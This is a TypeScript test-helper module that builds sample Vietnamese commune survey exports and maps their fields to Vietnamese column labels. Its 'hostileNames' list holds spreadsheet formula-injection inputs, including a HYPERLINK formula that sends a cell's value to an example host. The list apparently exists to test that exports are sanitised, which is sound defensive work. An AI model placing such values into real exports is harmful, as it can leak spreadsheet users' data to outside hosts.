import { Buffer } from 'node:buffer';
import type { Audience } from '../../../functions/domain/measure/audience.ts';
import { perCriterion } from '../../../functions/domain/measure/criterion.ts';
import { exportProvince } from '../../../functions/domain/measure/province-export.ts';
import type { CommuneRow, ProvinceExport } from '../../../functions/domain/measure/shown-province.ts';
import { type Detail, emptyDetail } from '../../../functions/domain/tally.ts';
import { type Brought, provinceFrom, week } from '../measure/histories.ts';

/** Fourteen weeks of a commune: from a few answers to hundreds, with and without unhappy and flagged ones. */
const weeksOf = (commune: number): Brought[] =>
  Array.from({ length: 14 }, (_, index) => ({
    rated: commune * 3,
    unhappy: commune > 0 && (commune * index) % 4 === 0 ? 1 : 0,
    flagged: commune % 3 === 0 ? 2 : 0,
    visits: commune === 10 ? 20 : 60,
  }));

const detailOf = (commune: number): Detail => ({
  ...emptyDetail,
  criteria: {
    attitude: { ratings: [0, commune, 0, 2, commune * 9], notApplicable: 4 },
    waiting: { ratings: [0, 0, 0, 5, 3], notApplicable: 0 },
  },
});

/** A dozen communes with something for everybody to see and to miss; the first has no answers at all. */
export const sampleExport = (
  audience: Audience,
  { names = [], province: code = '42' }: { names?: readonly string[]; province?: string } = {},
): ProvinceExport => {
  const { province, histories } = provinceFrom(Array.from({ length: 12 }, (_, index) => weeksOf(index)));
  const communes = province.communes.map((each, index) => ({ ...each, name: names[index] ?? each.name }));
  const details = new Map(communes.map((each, index) => [each.code, detailOf(index)]));
  return exportProvince({
    province: { ...province, code, communes },
    histories,
    at: week(13),
    audience,
    window: 13,
    details,
  });
};

/** Every number that the JSON has for a commune, under the Vietnamese label of its column. */
export const numbersOf = (row: CommuneRow, province: ProvinceExport): Record<string, number | null> => {
  const criteria = perCriterion((criterion) => row.criteria[criterion]);
  const words: [string, CommuneRow['criteria'][keyof typeof criteria]][] = [
    ['Thái độ', criteria.attitude],
    ['Hướng dẫn hồ sơ', criteria.guidance],
    ['Nơi tiếp dân', criteria.facilities],
    ['Thời gian chờ', criteria.waiting],
    ['Niêm yết công khai', criteria.transparency],
    ['Giấy tờ yêu cầu', criteria.paperwork],
    ['Kết quả', criteria.outcome],
    ['Phản ánh, kiến nghị', criteria.recourse],
  ];
  return {
    'Số lượt đánh giá': row.rated,
    'Tỷ lệ hài lòng': row.satisfactionRate,
    'Tỷ lệ hài lòng: ít nhất': row.low,
    'Tỷ lệ hài lòng: nhiều nhất': row.high,
    'Điểm trung bình': row.meanScore,
    'Số lượt hài lòng': row.satisfied,
    'Số lượt rất hài lòng': row.topBox,
    'Số lượt không hài lòng': row.unhappy,
    'Tất cả các lượt': row.all,
    'Số lượt nghi vấn': row.flagged,
    'Tỷ lệ trả lời': row.responseRate,
    'Mức chung của tỉnh': province.level,
    'Chênh so với mức chung (điểm phần trăm)': row.gap,
    'Số tuần muốn xem': province.window,
    'Tỷ lệ đã kéo về mức chung': row.shrunken,
    'Độ kéo về mức chung': province.priorStrength,
    ...Object.fromEntries(
      words.flatMap(([name, rate]) => [
        [`${name}: số lượt đánh giá`, rate.rated],
        [`${name}: số lượt hài lòng`, rate.satisfied],
        [`${name}: tỷ lệ hài lòng`, rate.satisfactionRate],
        [`${name}: ít nhất`, rate.low],
        [`${name}: nhiều nhất`, rate.high],
      ]),
    ),
  };
};

const yesOrNo = (value: boolean | null): string | null => {
  if (value === null) return null;
  return value ? 'có' : 'không';
};

const markOf = (responseRate: number | null): string | null => {
  if (responseRate === null || (responseRate >= 0.1 && responseRate <= 1)) return null;
  return responseRate < 0.1 ? 'dưới 10 %' : 'trên 100 %';
};

const tiers = {
  insufficient: 'chưa đủ dữ liệu',
  indicative: 'chỉ để tham khảo',
  reportable: 'đủ để công bố',
};
const bands = { above: 'cao hơn', same: 'tương đương', below: 'thấp hơn', none: 'không so sánh' };
const trends = {
  better: 'tốt lên',
  worse: 'kém đi',
  same: 'chưa thấy thay đổi',
  too_few: 'chưa đủ dữ liệu',
};

/** Every text that the JSON has for a commune, its name apart, in the words of the table. */
export const textsOf = (row: CommuneRow, province: ProvinceExport): Record<string, string | null> => ({
  'Mã xã': row.commune,
  'Mã tỉnh': province.province,
  'Từ tuần': row.from,
  'Đến tuần': row.to,
  'Mức công bố': tiers[row.tier],
  'So với mức chung': row.band && bands[row.band],
  'Cảnh báo': yesOrNo(row.alert),
  'Lưu ý về tỷ lệ trả lời': markOf(row.responseRate),
  'Xu hướng': row.trend && trends[row.trend],
  'Tỉnh so sánh được': yesOrNo(province.compared),
});

/** Names that a spreadsheet could take for something else, or choke on. */
export const hostileNames = [
  '=1+1',
  '+84912345678',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '=HYPERLINK("http://example.com?x="&A1,"mở")',
  'Xã "Hoà Hải", huyện cũ',
  'hai\ndòng',
  '<b>&amp; </b> ]]>',
  '_x0041_ nguyên văn',
  '00007',
  '  Đức Thọ  ',
];

export const collect = async (bytes: AsyncIterable<Uint8Array>): Promise<Uint8Array> => {
  const chunks: Uint8Array[] = [];
  for await (const chunk of bytes) chunks.push(chunk);
  return Buffer.concat(chunks);
};
